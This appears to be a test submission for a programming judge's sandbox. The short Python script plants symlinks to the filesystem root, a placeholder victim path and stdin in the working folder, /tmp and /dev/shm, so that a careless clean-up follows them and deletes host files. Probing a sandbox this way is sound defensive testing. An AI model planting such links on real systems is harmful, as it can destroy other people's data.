"""Leaves links to folders of the host, which a careless clean-up follows and empties.

task: squares
status: RE WA
"""

import os

os.write(2, b"attempt\n")
for folder in (".", "/tmp", "/dev/shm"):
    try:
        os.symlink("@VICTIM@", folder + "/@TOKEN@")
        os.symlink("/", folder + "/@TOKEN@root")
        os.symlink("/proc/self/fd/0", folder + "/@TOKEN@fd")
    except OSError as error:
        print(error)
print(0)
